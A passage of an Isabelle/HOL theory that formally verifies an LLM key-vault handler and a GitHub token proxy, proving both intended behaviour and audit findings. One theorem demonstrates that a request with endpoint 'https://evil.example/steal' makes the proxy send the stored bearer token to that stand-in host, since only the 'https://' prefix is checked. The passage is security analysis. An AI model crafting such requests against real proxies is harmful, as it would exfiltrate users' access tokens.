                = (json_response 200
                     (JObj [(''sessionId'', JStr newId),
                            (''providers'', JArr []),
                            (''expiresIn'', JNum 86400)]),
                   tbl1))
       \<and> map_get newId tbl1 = Some \<lparr>createdAt = now e, keys = []\<rparr>
       \<and> (\<forall>k. k \<noteq> newId \<longrightarrow> map_get k tbl1 = map_get k tbl0)
       \<and> (map_get newId tbl0 = None
          \<longrightarrow> tbl1 = tbl0 @ [(newId, \<lparr>createdAt = now e, keys = []\<rparr>)])
       \<and> length newId = 64
       \<and> (newId = generateSessionId g \<longrightarrow> (\<forall>i<32. rnd e i = g i))
       \<and> (truthy (sessionId r) \<and> map_get (str (sessionId r)) tbl0 = Some s
          \<longrightarrow> llm_proxy e vt rq
                = (json_response 200
                     (JObj [(''sessionId'', JStr (str (sessionId r))),
                            (''providers'', JArr (map JStr (object_keys (keys s)))),
                            (''expiresIn'',
                               JNum (max 0 (86400 - (now e - createdAt s) div 1000)))]),
                   tbl0)
            \<and> set (object_keys (keys s)) = fst ` set (keys s)
            \<and> 0 \<le> max 0 (86400 - (now e - createdAt s) div 1000)
            \<and> (createdAt s \<le> now e
                \<longrightarrow> max 0 (86400 - (now e - createdAt s) div 1000) \<le> 86400)
            \<and> (now e < createdAt s
                \<longrightarrow> 86400 < max 0 (86400 - (now e - createdAt s) div 1000)))"
proof -
  have run: "llm_proxy e vt rq = llm_get_session e tbl0 r"
    using assms(1-4) by (simp add: llm_proxy_def llm_action_def)
  have fresh: "llm_get_session e tbl0 r
                = (json_response 200
                     (JObj [(''sessionId'', JStr newId),
                            (''providers'', JArr []),
                            (''expiresIn'', JNum 86400)]),
                   tbl1)"
    if "falsy (sessionId r) \<or> map_get (str (sessionId r)) tbl0 = None"
    using that unfolding assms(5,6)
    by (auto simp: llm_get_session_def falsy_def providers_json_def object_keys_Nil Let_def)
  have live: "llm_get_session e tbl0 r
                = (json_response 200
                     (JObj [(''sessionId'', JStr (str (sessionId r))),
                            (''providers'', JArr (map JStr (object_keys (keys s)))),
                            (''expiresIn'',
                               JNum (max 0 (86400 - (now e - createdAt s) div 1000)))]),
                   tbl0)"
    if "truthy (sessionId r)" "map_get (str (sessionId r)) tbl0 = Some s"
    using that by (simp add: llm_get_session_def providers_json_def)
  have bound: "max 0 (86400 - (now e - createdAt s) div 1000) \<le> 86400"
    if "createdAt s \<le> now e"
  proof -
    have "0 \<le> (now e - createdAt s) div 1000" using that by simp
    then show ?thesis by simp
  qed
  have over: "86400 < max 0 (86400 - (now e - createdAt s) div 1000)"
    if "now e < createdAt s"
  proof -
    have "(now e - createdAt s) div 1000 < 0" using that by (simp add: div_neg_pos_less0)
    then show ?thesis by simp
  qed
  have c2: "map_get newId tbl1 = Some \<lparr>createdAt = now e, keys = []\<rparr>"
    and c3: "\<forall>k. k \<noteq> newId \<longrightarrow> map_get k tbl1 = map_get k tbl0"
    and c4: "map_get newId tbl0 = None
          \<longrightarrow> tbl1 = tbl0 @ [(newId, \<lparr>createdAt = now e, keys = []\<rparr>)]"
    unfolding assms(6) by (simp_all add: map_get_map_set map_set_absent)
  have c5: "length newId = 64"
    unfolding assms(5) by (rule length_generateSessionId)
  have c6: "newId = generateSessionId g \<longrightarrow> (\<forall>i<32. rnd e i = g i)"
    unfolding assms(5) using generateSessionId_inj by blast
  show ?thesis
    unfolding run using fresh live bound over c2 c3 c4 c5 c6 by (simp add: set_object_keys)
qed

theorem get_session_behaviour_witness:
  "http_method (post (no_fields\<lparr>action := Some ''get_session''\<rparr>)) \<noteq> ''OPTIONS''
   \<and> falsy (sessionId (no_fields\<lparr>action := Some ''get_session''\<rparr>))
   \<and> llm_proxy (env_at 5000) [(''a'', \<lparr>createdAt = 0, keys = [(''openai'', ''k1'')]\<rparr>)]
         (post (no_fields\<lparr>action := Some ''get_session''\<rparr>))
       = (json_response 200
            (JObj [(''sessionId'',
                    JStr ''000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f''),
                   (''providers'', JArr []),
                   (''expiresIn'', JNum 86400)]),
          [(''a'', \<lparr>createdAt = 0, keys = [(''openai'', ''k1'')]\<rparr>),
           (''000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f'',
            \<lparr>createdAt = 5000, keys = []\<rparr>)])
   \<and> truthy (sessionId (no_fields\<lparr>action := Some ''get_session'', sessionId := Some ''a''\<rparr>))
   \<and> map_get ''a'' (llm_cleanupSessions 5000 [(''a'', \<lparr>createdAt = 0, keys = [(''openai'', ''k1'')]\<rparr>)])
       = Some \<lparr>createdAt = 0, keys = [(''openai'', ''k1'')]\<rparr>
   \<and> (0::int) \<le> 5000
   \<and> llm_proxy (env_at 5000) [(''a'', \<lparr>createdAt = 0, keys = [(''openai'', ''k1'')]\<rparr>)]
         (post (no_fields\<lparr>action := Some ''get_session'', sessionId := Some ''a''\<rparr>))
       = (json_response 200
            (JObj [(''sessionId'', JStr ''a''),
                   (''providers'', JArr [JStr ''openai'']),
                   (''expiresIn'', JNum 86395)]),
          [(''a'', \<lparr>createdAt = 0, keys = [(''openai'', ''k1'')]\<rparr>)])"
proof -
  let ?r = "no_fields\<lparr>action := Some ''get_session''\<rparr>"
  let ?r' = "no_fields\<lparr>action := Some ''get_session'', sessionId := Some ''a''\<rparr>"
  let ?s = "\<lparr>createdAt = 0, keys = [(''openai'', ''k1'')]\<rparr>"
  let ?vt = "[(''a'', ?s)]"
  let ?id = "''000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f''"
  have m: "http_method (post r) \<noteq> ''OPTIONS''" and p: "payload (post r) = Inr r" for r
    by (simp_all add: post_def)
  have a: "action ?r = Some ''get_session''" and a': "action ?r' = Some ''get_session''"
    by (simp_all add: no_fields_def)
  have sw: "llm_cleanupSessions (sweep_now (env_at 5000)) ?vt = ?vt"
    "llm_cleanupSessions 5000 ?vt = ?vt"
    by (simp_all add: sweep_eval env_at_def)
  have f: "falsy (sessionId ?r)" "truthy (sessionId ?r')" "str (sessionId ?r') = ''a''"
    by (simp_all add: no_fields_def falsy_def)
  have g: "map_get ''a'' ?vt = Some ?s" by (simp add: map_get_def)
  have id: "generateSessionId (rnd (env_at 5000)) = ?id"
    unfolding env_at_def by code_simp
  have k: "object_keys (keys ?s) = [''openai'']" by code_simp
  have t: "now (env_at 5000) = 5000" "createdAt ?s = 0" by (simp_all add: env_at_def)
  note t1 = get_session_behaviour [OF m p a refl refl refl, of "env_at 5000" ?vt,
      THEN conjunct1, rule_format, unfolded sw id t]
  note t2 = get_session_behaviour [OF m p a' refl refl refl, of "env_at 5000" ?vt _ ?s,
      THEN conjunct2, THEN conjunct2, THEN conjunct2, THEN conjunct2, THEN conjunct2,
      THEN conjunct2, rule_format, unfolded sw f(3) k t, THEN conjunct1]
  have "llm_proxy (env_at 5000) ?vt (post ?r)
       = (json_response 200
            (JObj [(''sessionId'', JStr ?id), (''providers'', JArr []),
                   (''expiresIn'', JNum 86400)]),
          [(''a'', ?s), (?id, \<lparr>createdAt = 5000, keys = []\<rparr>)])"
    using t1 f(1) by simp
  moreover have "llm_proxy (env_at 5000) ?vt (post ?r')
       = (json_response 200
            (JObj [(''sessionId'', JStr ''a''),
                   (''providers'', JArr [JStr ''openai'']),
                   (''expiresIn'', JNum 86395)]),
          ?vt)"
    using t2 f g by simp
  ultimately show ?thesis using m f g unfolding sw by simp
qed

text \<open>
  The handler bounds the remaining lifetime from below only. For a session created at
  5000 ms and a clock reading of 3500 ms it answers 86402.
\<close>

theorem remaining_ttl_above_full_ttl:
  "llm_proxy (env_at 3500) [(''a'', \<lparr>createdAt = 5000, keys = []\<rparr>)]
     (post (no_fields\<lparr>action := Some ''get_session'', sessionId := Some ''a''\<rparr>))
   = (json_response 200
        (JObj [(''sessionId'', JStr ''a''), (''providers'', JArr []),
               (''expiresIn'', JNum 86402)]),
      [(''a'', \<lparr>createdAt = 5000, keys = []\<rparr>)])
   \<and> \<not> (86402 :: int) \<le> 86400"
  by (simp add: llm_proxy_def post_def no_fields_def llm_action_def llm_get_session_def
        sweep_eval env_at_def map_get_def providers_json_def object_keys_Nil)

text \<open>
  C10. \<open>set_key\<close> with all three fields non-empty and a session id that the swept
  table does not hold appends a session under exactly that id, created now, holding the
  one key, and answers success with the provider's name. The id is the caller's string,
  whatever its shape; a string that is not 64 characters long is none that
  \<open>generateSessionId\<close> could return.
\<close>

theorem set_key_creates_session:
  assumes "http_method rq \<noteq> ''OPTIONS''"
    and "payload rq = Inr r"
    and "action r = Some ''set_key''"
    and "sessionId r = Some sid" and "sid \<noteq> []"
    and "provider r = Some p" and "p \<noteq> []"
    and "apiKey r = Some k" and "k \<noteq> []"
    and "map_get sid (llm_cleanupSessions (sweep_now e) vt) = None"
  shows "llm_proxy e vt rq
           = (json_response 200
                (JObj [(''success'', JBool True), (''providers'', JArr [JStr p])]),
              llm_cleanupSessions (sweep_now e) vt @ [(sid, \<lparr>createdAt = now e, keys = [(p, k)]\<rparr>)])
       \<and> map_get sid (snd (llm_proxy e vt rq)) = Some \<lparr>createdAt = now e, keys = [(p, k)]\<rparr>
       \<and> (length sid \<noteq> 64 \<longrightarrow> sid \<noteq> generateSessionId g)"
proof -
  let ?tbl = "llm_cleanupSessions (sweep_now e) vt"
  have run: "llm_proxy e vt rq = llm_set_key e ?tbl r"
    using assms by (simp add: llm_proxy_def llm_action_def)
  have res: "llm_set_key e ?tbl r
           = (json_response 200
                (JObj [(''success'', JBool True), (''providers'', JArr [JStr p])]),
              ?tbl @ [(sid, \<lparr>createdAt = now e, keys = [(p, k)]\<rparr>)])"
    using assms
    by (simp add: llm_set_key_def falsy_def prop_set_def providers_json_def object_keys_single
          map_set_absent)
  have "map_get sid (?tbl @ [(sid, \<lparr>createdAt = now e, keys = [(p, k)]\<rparr>)])
          = Some \<lparr>createdAt = now e, keys = [(p, k)]\<rparr>"
    using assms(10) by (simp add: map_get_def map_add_def split: option.splits)
  moreover have "length sid \<noteq> 64 \<longrightarrow> sid \<noteq> generateSessionId g"
    using length_generateSessionId [of g] by auto
  ultimately show ?thesis unfolding run res by simp
qed


theorem set_key_creates_session_witness:
  "http_method (post (no_fields\<lparr>action := Some ''set_key'', sessionId := Some ''my session!'',
                                 provider := Some ''openai'', apiKey := Some ''k1''\<rparr>)) \<noteq> ''OPTIONS''
   \<and> map_get ''my session!'' (llm_cleanupSessions 7 []) = None
   \<and> length ''my session!'' \<noteq> 64
   \<and> llm_proxy (env_at 7) []
         (post (no_fields\<lparr>action := Some ''set_key'', sessionId := Some ''my session!'',
                          provider := Some ''openai'', apiKey := Some ''k1''\<rparr>))
       = (json_response 200
            (JObj [(''success'', JBool True), (''providers'', JArr [JStr ''openai''])]),
          [(''my session!'', \<lparr>createdAt = 7, keys = [(''openai'', ''k1'')]\<rparr>)])
   \<and> ''my session!'' \<noteq> generateSessionId (rnd (env_at 7))"
proof -
  let ?r = "no_fields\<lparr>action := Some ''set_key'', sessionId := Some ''my session!'',
                        provider := Some ''openai'', apiKey := Some ''k1''\<rparr>"
  have m: "http_method (post ?r) \<noteq> ''OPTIONS''" and p: "payload (post ?r) = Inr ?r"
    by (simp_all add: post_def)
  have a: "action ?r = Some ''set_key''" "sessionId ?r = Some ''my session!''"
    "provider ?r = Some ''openai''" "apiKey ?r = Some ''k1''"
    by (simp_all add: no_fields_def)
  have ne: "''my session!'' \<noteq> []" "''openai'' \<noteq> []" "''k1'' \<noteq> []" by simp_all
  have sw: "llm_cleanupSessions (sweep_now (env_at 7)) [] = []" "llm_cleanupSessions 7 [] = []"
    by (simp_all add: sweep_eval)
  have g: "map_get ''my session!'' (llm_cleanupSessions (sweep_now (env_at 7)) []) = None"
    unfolding sw by (simp add: map_get_def)
  have l: "length ''my session!'' \<noteq> 64" by simp
  note t = set_key_creates_session [OF m p a(1) a(2) ne(1) a(3) ne(2) a(4) ne(3) g,
      of "rnd (env_at 7)"]
  show ?thesis
    using t m l g unfolding sw by (simp add: env_at_def)
qed

section \<open>The bearer-token broker's upstream calls\<close>

text \<open>
  A \<open>proxy\<close> request of a live session with a non-empty endpoint, whose upstream call
  returns a reply with a status from 200 to 599 other than 304, is answered with
  \<open>{data, status, rateLimit}\<close>: \<open>data\<close> is the decoded upstream body, or the empty
  object when decoding fails; \<open>status\<close> is the upstream status; \<open>rateLimit\<close> holds the
  three \<open>x-ratelimit-*\<close> header values (\<open>null\<close> where a header is missing). The
  outer status is 200 when the upstream status is within 200..299 and the upstream status
  otherwise. The table stays as swept.
\<close>

lemma response_init_error_None:
  "response_init_error st = None \<longleftrightarrow> 200 \<le> st \<and> st \<le> 599 \<and> st \<noteq> 204 \<and> st \<noteq> 205 \<and> st \<noteq> 304"
  by (auto simp: response_init_error_def)

lemma proxy_response_normalised:
  assumes "http_method rq \<noteq> ''OPTIONS''"
    and "payload rq = Inr r"
    and "action r = Some ''proxy''"
    and "truthy (sessionId r)"
    and "map_get (str (sessionId r)) (gh_cleanupSessions (sweep_now e) gt) = Some s"
    and "truthy (endpoint r)"
    and "f (proxy_call s r) = Inr up"
    and "200 \<le> up_status up" and "up_status up \<le> 599" and "up_status up \<noteq> 304"
  shows "github_proxy e f gt rq =
          (\<lparr>status = (if 200 \<le> up_status up \<and> up_status up \<le> 299 then 200 else up_status up),
            json_body = Some (JObj
              [(''data'', (case up_json up of Inl msg \<Rightarrow> JObj [] | Inr j \<Rightarrow> j)),
               (''status'', JNum (int (up_status up))),
               (''rateLimit'', JObj
                  [(''limit'', (case map_of (up_headers up) ''x-ratelimit-limit'' of
                                  None \<Rightarrow> JNull | Some v \<Rightarrow> JStr v)),
                   (''remaining'', (case map_of (up_headers up) ''x-ratelimit-remaining'' of
                                  None \<Rightarrow> JNull | Some v \<Rightarrow> JStr v)),
                   (''reset'', (case map_of (up_headers up) ''x-ratelimit-reset'' of
                                  None \<Rightarrow> JNull | Some v \<Rightarrow> JStr v))])])\<rparr>,
           gh_cleanupSessions (sweep_now e) gt,
           [proxy_call s r])"
proof -
  have acc: "response_init_error (status (proxy_response up)) = None"
    using assms(8-10) by (auto simp: response_init_error_None proxy_response_def ok_def)
  have "github_proxy e f gt rq = gh_proxy f (gh_cleanupSessions (sweep_now e) gt) r"
    using assms(1-3) by (simp add: github_proxy_def gh_action_def)
  also have "\<dots> = (proxy_response up, gh_cleanupSessions (sweep_now e) gt, [proxy_call s r])"
    using assms(4-7) acc by (simp add: gh_proxy_def falsy_def)
  finally show ?thesis
    by (simp add: proxy_response_def ok_def headers_get_def)
qed

text \<open>The upstream 404 with body \<open>{"message": "Not Found"}\<close> comes back as 404.\<close>

lemma proxy_relays_404:
  "fst (github_proxy (env_at 10)
         (\<lambda>c. Inr \<lparr>up_status = 404,
                    up_headers = [(''x-ratelimit-limit'', ''60''),
                                  (''x-ratelimit-remaining'', ''59'')],
                    up_json = Inr (JObj [(''message'', JStr ''Not Found'')])\<rparr>)
         [(''g'', \<lparr>createdAt = 5, token = ''t'', tokenType = ''classic''\<rparr>)]
         (post (no_fields\<lparr>action := Some ''proxy'', sessionId := Some ''g'',
                          endpoint := Some ''/repos/x/y''\<rparr>)))
       = \<lparr>status = 404,
          json_body = Some (JObj
            [(''data'', JObj [(''message'', JStr ''Not Found'')]),
             (''status'', JNum 404),
             (''rateLimit'', JObj [(''limit'', JStr ''60''), (''remaining'', JStr ''59''),
                                   (''reset'', JNull)])])\<rparr>"
  by (simp add: github_proxy_def post_def no_fields_def gh_action_def gh_proxy_def falsy_def
        sweep_eval env_at_def map_get_def proxy_response_def ok_def headers_get_def
        response_init_error_def)

text \<open>
  C7. The status is not mirrored for every upstream reply. An upstream 304 is not
  \<open>ok\<close>, so the handler passes status 304 together with the JSON body to
  \<open>new Response\<close>, which refuses a body with that status; the error is caught and the
  request is answered with 500 and the error's message, not with
  \<open>{data, status, rateLimit}\<close> and status 304.
\<close>

theorem proxy_upstream_304_is_answered_500:
  "github_proxy (env_at 10)
     (\<lambda>c. Inr \<lparr>up_status = 304, up_headers = [],
                up_json = Inl ''Unexpected end of JSON input''\<rparr>)
     [(''g'', \<lparr>createdAt = 5, token = ''t'', tokenType = ''classic''\<rparr>)]
     (post (no_fields\<lparr>action := Some ''proxy'', sessionId := Some ''g'',
                      endpoint := Some ''/repos/x/y''\<rparr>))
   = (\<lparr>status = 500,
       json_body = Some (JObj [(''error'',
                     JStr ''Response with null body status cannot have body'')])\<rparr>,
      [(''g'', \<lparr>createdAt = 5, token = ''t'', tokenType = ''classic''\<rparr>)],
      [\<lparr>url = ''https://api.github.com/repos/x/y'', fetch_method = ''GET'',
        headers = [(''Authorization'', ''Bearer t''),
                   (''Accept'', ''application/vnd.github.v3+json''),
                   (''User-Agent'', ''Lovable-App'')],
        fetch_body = None\<rparr>])"
  by (simp add: github_proxy_def post_def no_fields_def gh_action_def gh_proxy_def falsy_def
        sweep_eval env_at_def map_get_def proxy_call_def fullUrl_def startsWith_def
        auth_headers_def proxy_response_def ok_def headers_get_def response_init_error_def
        error_response_def json_response_def)

text \<open>
  A reply within 200..299 whose \<open>login\<close> cannot be printed: the session is stored and
  the request is answered with 500.
\<close>

lemma create_session_login_object:
  "github_proxy (env_at 10)
     (\<lambda>c. Inr \<lparr>up_status = 200, up_headers = [],
                up_json = Inr (JObj [(''login'', JObj [(''toString'', JStr ''x'')])])\<rparr>)
     [] (post (no_fields\<lparr>action := Some ''create_session'', req_token := Some ''ghp_1''\<rparr>))
   = (error_response 500 ''Cannot convert object to primitive value'',
      [(generateSessionId (rnd (env_at 10)),
        \<lparr>createdAt = 10, token = ''ghp_1'', tokenType = ''classic''\<rparr>)],
      [identity_call ''ghp_1''])"
  by (simp add: github_proxy_def post_def no_fields_def gh_action_def gh_create_session_def
        falsy_def sweep_eval ok_def log_error_def json_get_def Let_def identity_call_def
        env_at_def)




section \<open>Validation of required fields\<close>

text \<open>
  C5, as the code has it. A request whose required field is missing or empty is answered
  with \<open>{error: message}\<close> and the table left as swept, no upstream call made. The
  status is 400 for \<open>create_session\<close> without a token, for \<open>set_key\<close>,
  \<open>remove_key\<close> and \<open>check_key\<close>, and for \<open>proxy\<close> without an endpoint once the
  session is found. \<open>proxy\<close> without a session id is answered with 401, and so is
  \<open>proxy\<close> with an id that is not live, whether or not an endpoint is given. Each
  message is fixed per check and names all the fields that check requires.
\<close>

theorem validation_failures:
  assumes "http_method rq \<noteq> ''OPTIONS''"
    and "payload rq = Inr r"
  shows "(action r = Some ''create_session'' \<and> falsy (req_token r)
          \<longrightarrow> github_proxy e f gt rq
                = (error_response 400 ''Token is required'',
                   gh_cleanupSessions (sweep_now e) gt, []))
       \<and> (action r = Some ''proxy'' \<and> falsy (sessionId r)
          \<longrightarrow> github_proxy e f gt rq
                = (error_response 401 ''Session ID is required'',
                   gh_cleanupSessions (sweep_now e) gt, []))
       \<and> (action r = Some ''proxy'' \<and> truthy (sessionId r)
            \<and> map_get (str (sessionId r)) (gh_cleanupSessions (sweep_now e) gt) = None
          \<longrightarrow> github_proxy e f gt rq
                = (error_response 401 ''Invalid or expired session'',
                   gh_cleanupSessions (sweep_now e) gt, []))
       \<and> (action r = Some ''proxy'' \<and> truthy (sessionId r)
            \<and> map_get (str (sessionId r)) (gh_cleanupSessions (sweep_now e) gt) = Some s
            \<and> falsy (endpoint r)
          \<longrightarrow> github_proxy e f gt rq
                = (error_response 400 ''Endpoint is required'',
                   gh_cleanupSessions (sweep_now e) gt, []))
       \<and> (action r = Some ''set_key''
            \<and> (falsy (sessionId r) \<or> falsy (provider r) \<or> falsy (apiKey r))
          \<longrightarrow> llm_proxy e vt rq
                = (error_response 400 ''Session ID, provider, and API key are required'',
                   llm_cleanupSessions (sweep_now e) vt))
       \<and> ((action r = Some ''remove_key'' \<or> action r = Some ''check_key'')
            \<and> (falsy (sessionId r) \<or> falsy (provider r))
          \<longrightarrow> llm_proxy e vt rq
                = (error_response 400 ''Session ID and provider are required'',
                   llm_cleanupSessions (sweep_now e) vt))
       \<and> error_response 400 msg = \<lparr>status = 400, json_body = Some (JObj [(''error'', JStr msg)])\<rparr>"
proof -
  have g: "github_proxy e f gt rq = gh_action e f (gh_cleanupSessions (sweep_now e) gt) r"
    and l: "llm_proxy e vt rq = llm_action e (llm_cleanupSessions (sweep_now e) vt) r"
    using assms by (simp_all add: github_proxy_def llm_proxy_def)
  show ?thesis
    unfolding g l
    by (auto simp: gh_action_def gh_create_session_def gh_proxy_def falsy_def
          llm_action_def llm_set_key_def llm_remove_key_def llm_check_key_def
          error_response_def json_response_def)
qed

theorem validation_failures_witness:
  "http_method (post (no_fields\<lparr>action := Some ''set_key'', sessionId := Some ''s'',
                                 provider := Some ''openai'', apiKey := Some []\<rparr>)) \<noteq> ''OPTIONS''
   \<and> falsy (apiKey (no_fields\<lparr>action := Some ''set_key'', sessionId := Some ''s'',
                                 provider := Some ''openai'', apiKey := Some []\<rparr>))
   \<and> fst (llm_proxy (env_at 0) []
         (post (no_fields\<lparr>action := Some ''set_key'', sessionId := Some ''s'',
                          provider := Some ''openai'', apiKey := Some []\<rparr>)))
       = \<lparr>status = 400,
          json_body = Some (JObj [(''error'',
                       JStr ''Session ID, provider, and API key are required'')])\<rparr>
   \<and> falsy (req_token (no_fields\<lparr>action := Some ''create_session''\<rparr>))
   \<and> fst (github_proxy (env_at 0) unreachable []
         (post (no_fields\<lparr>action := Some ''create_session''\<rparr>)))
       = \<lparr>status = 400, json_body = Some (JObj [(''error'', JStr ''Token is required'')])\<rparr>
   \<and> truthy (sessionId (no_fields\<lparr>action := Some ''proxy'', sessionId := Some ''g''\<rparr>))
   \<and> falsy (endpoint (no_fields\<lparr>action := Some ''proxy'', sessionId := Some ''g''\<rparr>))
   \<and> map_get ''g'' (gh_cleanupSessions 0 [(''g'', \<lparr>createdAt = 0, token = ''t'', tokenType = ''classic''\<rparr>)])
       = Some \<lparr>createdAt = 0, token = ''t'', tokenType = ''classic''\<rparr>
   \<and> fst (github_proxy (env_at 0) unreachable
         [(''g'', \<lparr>createdAt = 0, token = ''t'', tokenType = ''classic''\<rparr>)]
         (post (no_fields\<lparr>action := Some ''proxy'', sessionId := Some ''g''\<rparr>)))
       = \<lparr>status = 400, json_body = Some (JObj [(''error'', JStr ''Endpoint is required'')])\<rparr>"
proof -
  let ?r1 = "no_fields\<lparr>action := Some ''set_key'', sessionId := Some ''s'',
                         provider := Some ''openai'', apiKey := Some []\<rparr>"
  let ?r2 = "no_fields\<lparr>action := Some ''create_session''\<rparr>"
  let ?r3 = "no_fields\<lparr>action := Some ''proxy'', sessionId := Some ''g''\<rparr>"
  let ?s = "\<lparr>createdAt = 0, token = ''t'', tokenType = ''classic''\<rparr>"
  let ?gt = "[(''g'', ?s)]"
  have m: "http_method (post r) \<noteq> ''OPTIONS''" and p: "payload (post r) = Inr r" for r
    by (simp_all add: post_def)
  have h1: "action ?r1 = Some ''set_key''
              \<and> (falsy (sessionId ?r1) \<or> falsy (provider ?r1) \<or> falsy (apiKey ?r1))"
    by (simp add: no_fields_def falsy_def)
  have h2: "action ?r2 = Some ''create_session'' \<and> falsy (req_token ?r2)"
    by (simp add: no_fields_def falsy_def)
  have sw: "gh_cleanupSessions (sweep_now (env_at 0)) ?gt = ?gt" "gh_cleanupSessions 0 ?gt = ?gt"
    by (simp_all add: sweep_eval env_at_def)
  have g: "map_get ''g'' ?gt = Some ?s" by (simp add: map_get_def)
  have h3: "action ?r3 = Some ''proxy'' \<and> truthy (sessionId ?r3)
            \<and> map_get (str (sessionId ?r3)) (gh_cleanupSessions (sweep_now (env_at 0)) ?gt) = Some ?s
            \<and> falsy (endpoint ?r3)"
    unfolding sw using g by (simp add: no_fields_def falsy_def)
  note e = validation_failures [OF m p, THEN conjunct2, THEN conjunct2, THEN conjunct2,
      THEN conjunct2, THEN conjunct2, THEN conjunct2]
  note t1 = validation_failures [OF m p, THEN conjunct2, THEN conjunct2, THEN conjunct2,
      THEN conjunct2, THEN conjunct1, rule_format, OF h1, of "env_at 0" "[]"]
  note t2 = validation_failures [OF m p, THEN conjunct1, rule_format, OF h2,
      of "env_at 0" unreachable "[]"]
  note t3 = validation_failures [OF m p, THEN conjunct2, THEN conjunct2, THEN conjunct2,
      THEN conjunct1, rule_format, OF h3, of unreachable]
  show ?thesis
    using m h1 h2 h3 g unfolding t1 t2 t3 sw e by (simp add: falsy_def no_fields_def)
qed

text \<open>
  Status 400 for every missing field does not hold: \<open>proxy\<close> without a session id,
  or with one that is not live, is answered with 401.
\<close>

theorem missing_session_id_is_401:
  "fst (github_proxy (env_at 0) unreachable []
          (post (no_fields\<lparr>action := Some ''proxy'', endpoint := Some ''/user''\<rparr>)))
     = \<lparr>status = 401, json_body = Some (JObj [(''error'', JStr ''Session ID is required'')])\<rparr>
   \<and> status (fst (github_proxy (env_at 0) unreachable []
          (post (no_fields\<lparr>action := Some ''proxy'', endpoint := Some ''/user''\<rparr>)))) \<noteq> 400
   \<and> fst (github_proxy (env_at 0) unreachable []
          (post (no_fields\<lparr>action := Some ''proxy'', sessionId := Some ''gone''\<rparr>)))
     = \<lparr>status = 401, json_body = Some (JObj [(''error'', JStr ''Invalid or expired session'')])\<rparr>"
  by (simp add: github_proxy_def post_def no_fields_def gh_action_def gh_proxy_def falsy_def
        error_response_def json_response_def sweep_eval map_get_def)

section \<open>Where the upstream call goes\<close>

text \<open>
  An endpoint that does not start with \<open>https://\<close> is joined onto the fixed base, so
  the call stays on \<open>api.github.com\<close>; one that does is taken as it is.
\<close>

lemma fullUrl_pinned:
  assumes "\<not> startsWith ep ''https://''"
  shows "startsWith (fullUrl ep) ''https://api.github.com/''"
proof (cases "startsWith ep ''/''")
  case True
  then obtain rest where "ep = CHR ''/'' # rest"
    by (cases ep) (auto simp: startsWith_def)
  with assms show ?thesis by (simp add: fullUrl_def startsWith_def)
next
  case False
  with assms show ?thesis by (simp add: fullUrl_def startsWith_def)
qed

lemma fullUrl_absolute: "startsWith ep ''https://'' \<Longrightarrow> fullUrl ep = ep"
  by (simp add: fullUrl_def)

text \<open>
  C1. The comment above \<open>fullUrl\<close> reads "ensure endpoint starts with
  https://api.github.com", but the test is for the prefix \<open>https://\<close> only. A
  \<open>proxy\<close> request of a live session with the endpoint
  \<open>https://evil.example/steal\<close> is sent to that URL with the stored token in the
  \<open>Authorization\<close> header, and the reply is relayed.
\<close>

theorem proxy_sends_token_to_any_https_host:
  "github_proxy (env_at 10)
     (\<lambda>c. Inr \<lparr>up_status = 200, up_headers = [], up_json = Inr (JObj [])\<rparr>)
     [(''g'', \<lparr>createdAt = 5, token = ''ghp_secret'', tokenType = ''classic''\<rparr>)]
     (post (no_fields\<lparr>action := Some ''proxy'', sessionId := Some ''g'',
                      endpoint := Some ''https://evil.example/steal''\<rparr>))
   = (\<lparr>status = 200,
       json_body = Some (JObj [(''data'', JObj []), (''status'', JNum 200),
                               (''rateLimit'', JObj [(''limit'', JNull), (''remaining'', JNull),
                                                     (''reset'', JNull)])])\<rparr>,
      [(''g'', \<lparr>createdAt = 5, token = ''ghp_secret'', tokenType = ''classic''\<rparr>)],
      [\<lparr>url = ''https://evil.example/steal'', fetch_method = ''GET'',
        headers = [(''Authorization'', ''Bearer ghp_secret''),
                   (''Accept'', ''application/vnd.github.v3+json''),
                   (''User-Agent'', ''Lovable-App'')],
        fetch_body = None\<rparr>])"
  by (simp add: github_proxy_def post_def no_fields_def gh_action_def gh_proxy_def falsy_def
        sweep_eval env_at_def map_get_def proxy_call_def fullUrl_def startsWith_def
        auth_headers_def proxy_response_def ok_def headers_get_def response_init_error_def)

section \<open>Presence of a key\<close>

text \<open>
  For every provider name \<open>set_key\<close> followed by \<open>check_key\<close> answers
  \<open>hasKey: true\<close>. After \<open>remove_key\<close>, or when the session has no key of that name,
  \<open>check_key\<close> answers \<open>false\<close> exactly for the names that \<open>Object.prototype\<close>
  does not define; without the session it answers \<open>false\<close>.
\<close>

lemma map_of_map_set: "map_of (map_set (k :: string) v ps) k = Some v"
  using map_get_map_set [of k k v ps] by (simp add: map_get_def)

lemma map_of_filter_key: "map_of (filter (\<lambda>e. fst e \<noteq> k) ps) (k :: string) = None"
  using map_get_map_delete [of k k ps] by (simp add: map_get_def map_delete_def)

lemma vault_roundtrip_by_name:
  assumes "sessionId r = Some sid" and "sid \<noteq> []"
    and "provider r = Some p" and "p \<noteq> []"
    and "apiKey r = Some k" and "k \<noteq> []"
  shows "fst (llm_check_key (snd (llm_set_key e tbl r)) r)
           = json_response 200 (JObj [(''hasKey'', JBool True)])"
    and "fst (llm_check_key (snd (llm_remove_key (snd (llm_set_key e tbl r)) r)) r)
           = json_response 200 (JObj [(''hasKey'', JBool (List.member object_prototype_names p))])"
    and "map_get sid tbl = None
         \<Longrightarrow> fst (llm_check_key tbl r) = json_response 200 (JObj [(''hasKey'', JBool False)])"
    and "map_get sid tbl = Some s \<Longrightarrow> map_of (keys s) p = None
         \<Longrightarrow> fst (llm_check_key tbl r)
             = json_response 200 (JObj [(''hasKey'', JBool (List.member object_prototype_names p))])"
  using assms
  by (simp_all add: llm_check_key_def llm_set_key_def llm_remove_key_def falsy_def Let_def
        map_get_map_set prop_truthy_def prop_set_def prop_delete_def map_of_map_set
        map_of_filter_key split: option.splits)

text \<open>
  C6. \<open>check_key\<close> tests \<open>session.keys[provider]\<close> for truthiness, and
  \<open>session.keys\<close> is an object literal: for a provider named like a property of
  \<open>Object.prototype\<close> the read finds the inherited function. A session without any
  key answers \<open>hasKey: true\<close> for \<open>constructor\<close>; and after \<open>set_key\<close> and
  \<open>remove_key\<close> of \<open>toString\<close>, with the provider list empty again,
  \<open>check_key\<close> still answers \<open>hasKey: true\<close>.
\<close>

theorem check_key_reads_inherited_properties:
